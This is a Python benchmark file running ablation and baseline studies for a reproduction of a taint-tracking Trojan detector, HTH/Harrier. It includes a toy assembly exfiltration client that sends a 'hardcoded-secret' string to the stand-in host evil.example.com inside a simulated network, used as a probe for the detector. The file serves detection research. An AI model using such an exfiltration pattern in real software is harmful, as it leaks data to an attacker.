"""Ablations and baselines (DESIGN.md's design-choice studies).

1. **Single taint bit vs multi-source tags** (section 5.1's argument):
   the Perl-taint-mode policy inverts HTH's answers on the Table 6
   matrix — it flags user-driven flows and misses hardcoded ones.
2. **Routine short circuit off** (section 7.2): without it, a hardcoded
   host name resolves to an address tagged FILE(/etc/hosts) and the
   hardcoded-socket classification degrades.
3. **BB frequency off** (section 7.4): the "Infrequent execve" row
   loses its Medium upgrade.
4. **stide baseline** (section 3.2): sequence anomaly detection needs
   behaviourally-novel traces; it cannot see *why* a call is suspicious.
"""

from benchmarks.harness import once, render_table, write_result
from repro.baselines.single_taint import (
    accuracy,
    evaluate_single_bit,
    hth_accuracy,
)
from repro.baselines.stide import evaluate_stide
from repro.core.report import Verdict
from repro.harrier.config import HarrierConfig
from repro.programs.micro.execflow import table4_workloads
from repro.programs.micro.infoflow import table6_workloads
from repro.programs.micro.resource import table5_workloads
from repro.programs.trusted import table7_workloads


def bench_ablation_single_bit(benchmark):
    results = once(
        benchmark, lambda: evaluate_single_bit(table6_workloads())
    )
    rows = [
        (r.name, "flag" if r.flagged else "-",
         r.hth_verdict.value, r.expected_verdict.value,
         "yes" if r.correct else "NO", "yes" if r.hth_correct else "NO")
        for r in results
    ]
    text = render_table(
        "Ablation: single taint bit vs HTH multi-source tags (Table 6)",
        ("benchmark", "single-bit", "HTH", "expected",
         "single-bit ok", "HTH ok"),
        rows,
    )
    acc = accuracy(results)
    hth_acc = hth_accuracy(results)
    text += (
        f"\nsingle-bit accuracy: {acc:.2f}    "
        f"HTH accuracy: {hth_acc:.2f}\n"
    )
    write_result("ablation_single_bit.txt", text)
    print("\n" + text)
    assert hth_acc == 1.0
    assert acc < 0.5  # the single bit gets the matrix mostly wrong


#: Exfiltration client whose *host* is hardcoded but whose port comes
#: from the user: only the gethostbyname short circuit lets Harrier see
#: that the connect address is hardcoded.
_SC_PROBE_SOURCE = r"""
main:
    mov ebp, esp
    mov ebx, host
    call gethostbyname
    mov esi, eax            ; ip
    load eax, [ebp+2]
    load ebx, [eax+1]       ; argv[1] = port (user input)
    call atoi
    mov edx, eax
    mov ecx, esi
    call socket
    mov ebx, eax
    call connect_addr
    mov ecx, payload
    call fputs
    mov eax, 0
    ret
.data
host: .asciz "evil.example.com"
payload: .asciz "hardcoded-secret"
"""


def bench_ablation_short_circuit(benchmark):
    from repro.kernel.network import SinkPeer
    from repro.programs.base import Workload

    target = Workload(
        name="sc-probe",
        program_path="/bin/sc_probe",
        source=_SC_PROBE_SOURCE,
        setup=lambda hth: hth.network.add_peer(
            "evil.example.com", 4000, lambda: SinkPeer("sink")
        ),
        argv=["/bin/sc_probe", "4000"],
        expected_verdict=Verdict.LOW,
    )

    def run_both():
        with_sc = target.run()
        without_sc = target.run(
            harrier_config=HarrierConfig(short_circuit_routines=False)
        )
        return with_sc, without_sc

    with_sc, without_sc = once(benchmark, run_both)
    rows = [
        ("short circuit ON", with_sc.verdict.value,
         ",".join(sorted({w.rule for w in with_sc.warnings})) or "-"),
        ("short circuit OFF", without_sc.verdict.value,
         ",".join(sorted({w.rule for w in without_sc.warnings})) or "-"),
    ]
    text = render_table(
        "Ablation: gethostbyname short circuit (section 7.2)",
        ("configuration", "verdict", "rules fired"),
        rows,
    )
    write_result("ablation_short_circuit.txt", text)
    print("\n" + text)
    # with the short circuit the hardcoded address is recognized (Low);
    # without it the address appears to come from /etc/hosts and the
    # hardcoded-socket rule goes quiet: the Trojan is MISSED
    assert with_sc.verdict is Verdict.LOW
    assert without_sc.verdict is Verdict.BENIGN


def bench_ablation_bb_frequency(benchmark):
    workloads = {w.name: w for w in table4_workloads()}
    target = workloads["Infrequent execve"]

    def run_both():
        with_bb = target.run()
        without_bb = target.run(
            harrier_config=HarrierConfig(track_bb_frequency=False)
        )
        return with_bb, without_bb

    with_bb, without_bb = once(benchmark, run_both)
    rows = [
        ("bb frequency ON", with_bb.verdict.value),
        ("bb frequency OFF", without_bb.verdict.value),
    ]
    text = render_table(
        "Ablation: basic-block frequency (section 7.4)",
        ("configuration", "Infrequent-execve verdict"),
        rows,
    )
    write_result("ablation_bb_frequency.txt", text)
    print("\n" + text)
    assert with_bb.verdict is Verdict.MEDIUM
    # without frequency evidence the rarity upgrade is lost
    assert without_bb.verdict is Verdict.LOW


def bench_baseline_stide(benchmark):
    trusted = table7_workloads()
    forkers = table5_workloads()
    train = [w for w in trusted if w.name in
             ("ls", "column", "awk", "tail", "diff", "wc", "bc")]
    tests = (
        [(w, False) for w in trusted if w.name in ("ls", "wc", "pico")]
        + [(w, True) for w in forkers]
    )
    results = once(
        benchmark,
        lambda: evaluate_stide(train, tests, window=4, threshold=0.1),
    )
    rows = [
        (r.name, f"{r.score:.2f}", "flag" if r.flagged else "-",
         "malicious" if r.should_flag else "benign",
         "yes" if r.correct else "NO")
        for r in results
    ]
    text = render_table(
        "Baseline: stide syscall-sequence anomaly detection (section 3.2)",
        ("workload", "anomaly score", "stide", "ground truth", "correct"),
        rows,
    )
    write_result("baseline_stide.txt", text)
    print("\n" + text)
    # stide catches behaviourally-novel fork bombs...
    assert all(r.flagged for r in results if r.should_flag)
    # ...but its verdicts carry no severities, resources, or explanations
    # (which is the qualitative gap HTH's expert system fills).
